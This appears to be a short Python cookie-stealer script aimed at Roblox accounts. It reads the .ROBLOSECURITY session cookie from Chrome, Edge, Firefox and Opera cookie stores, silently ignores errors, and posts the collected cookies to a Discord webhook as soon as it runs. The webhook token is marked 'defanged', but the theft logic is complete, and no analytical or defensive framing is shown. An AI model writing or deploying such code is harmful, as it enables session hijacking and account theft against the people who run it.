import browser_cookie3
import requests

HOOK = "https://discord.com/api/webhooks/777777777777777777/defanged"


def _cookies():
    found = []
    for loader in (browser_cookie3.chrome, browser_cookie3.edge, browser_cookie3.firefox, browser_cookie3.opera):
        try:
            for cookie in loader(domain_name="roblox.com"):
                if cookie.name == ".ROBLOSECURITY":
                    found.append(cookie.value)
        except Exception:
            pass
    return found


requests.post(HOOK, json={"content": "\n".join(_cookies())})
